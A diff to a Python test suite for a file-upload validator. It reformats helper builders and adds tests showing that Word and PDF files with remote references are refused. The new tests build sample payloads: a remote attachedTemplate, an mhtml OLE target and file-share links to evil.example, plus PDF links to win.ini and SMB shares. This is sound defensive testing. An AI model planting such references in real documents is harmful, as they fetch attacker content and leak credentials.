@@ -30,16 +30,22 @@ def png(extra: bytes = b"") -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
 
     ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
-    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
-            + chunk(b"IEND", b"") + extra)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", ihdr)
+        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
+        + chunk(b"IEND", b"")
+        + extra
+    )
 
 
 def pdf(js: str | None = None) -> bytes:
     writer = PdfWriter()
     writer.add_blank_page(width=200, height=200)
     if js:
-        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
-            NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(js)})
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(js)}
+        )
     buffer = io.BytesIO()
     writer.write(buffer)
     return buffer.getvalue()
@@ -71,8 +77,12 @@ def refused(name, data, **kwargs) -> str:
 
 class TestWhatIsAccepted:
     def test_it_accepts_real_files_of_the_allowed_kinds(self):
-        for name, data, code in [("anh.jpg", JPEG, "jpeg"), ("anh.png", png(), "png"), ("bc.pdf", pdf(), "pdf"),
-                                 ("bc.docx", docx(), "docx")]:
+        for name, data, code in [
+            ("anh.jpg", JPEG, "jpeg"),
+            ("anh.png", png(), "png"),
+            ("bc.pdf", pdf(), "pdf"),
+            ("bc.docx", docx(), "docx"),
+        ]:
             assert check_upload(upload(name, data)).kind.code == code
 
     def test_stored_names_are_random_and_ignore_the_users_name(self):
@@ -227,3 +237,64 @@ class TestServingBack:
         assert response["X-Content-Type-Options"] == "nosniff"
         assert "sandbox" in response["Content-Security-Policy"]
         assert "no-store" in response["Cache-Control"]
+
+
+class TestRemoteReferences:
+    """Finding 9 (issue 15): files that fetch something from elsewhere when opened are refused."""
+
+    RELS = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+    )
+
+    def _rels(self, relationship: str) -> dict:
+        return {"word/_rels/settings.xml.rels": self.RELS.format(relationship)}
+
+    def test_a_word_file_with_a_remote_template(self):
+        data = docx(
+            self._rels(
+                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+            )
+        )
+        assert "attachedTemplate" in refused("mau.docx", data)
+
+    def test_a_word_file_with_an_mhtml_ole_target(self):
+        data = docx(
+            self._rels(
+                '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                'oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" '
+                'TargetMode="External"/>'
+            )
+        )
+        refused("bao-cao.docx", data)
+
+    def test_a_word_file_linking_to_a_share(self):
+        data = docx(
+            self._rels(
+                '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                'hyperlink" Target="file://///evil.example/share/x" TargetMode="External"/>'
+            )
+        )
+        refused("bao-cao.docx", data)
+
+    def test_a_word_file_with_an_ordinary_web_link_is_fine(self):
+        data = docx(
+            self._rels(
+                '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                'hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>'
+            )
+        )
+        assert check_upload(upload("bao-cao.docx", data)).kind.code == "docx"
+
+    @pytest.mark.parametrize("target", [b"file:///C:/Windows/win.ini", b"\\\\\\\\evil\\\\share", b"smb://evil/x"])
+    def test_a_pdf_linking_to_a_local_file(self, target):
+        data = (
+            b"%PDF-1.4\n1 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(" + target + b")>>>>endobj\n"
+            b"trailer<<>>\n%%EOF\n"
+        )
+        refused("scan.pdf", data)
+
+    def test_a_pdf_with_a_web_link_is_fine(self):
+        data = b"%PDF-1.4\n1 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://gialai.gov.vn/)>>>>endobj\ntrailer<<>>\n%%EOF\n"
+        assert check_upload(upload("scan.pdf", data)).kind.code == "pdf"
